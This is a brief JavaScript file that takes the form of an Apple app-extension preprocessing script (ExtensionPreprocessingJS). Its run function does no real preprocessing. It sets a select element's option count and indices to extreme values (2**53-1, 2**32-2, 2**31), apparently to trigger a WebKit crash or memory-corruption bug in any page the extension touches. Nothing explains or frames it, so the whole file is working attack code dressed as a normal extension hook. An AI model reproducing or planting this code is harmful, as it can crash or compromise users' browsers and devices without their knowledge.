var ExtensionPreprocessingJS = { run(a) {
const s = document.createElement('select');
s.options.length = 2 ** 53 - 1;
s[2 ** 32 - 2] = new Option;
s.length = 2 ** 31;
a.completionFunction({});
} };
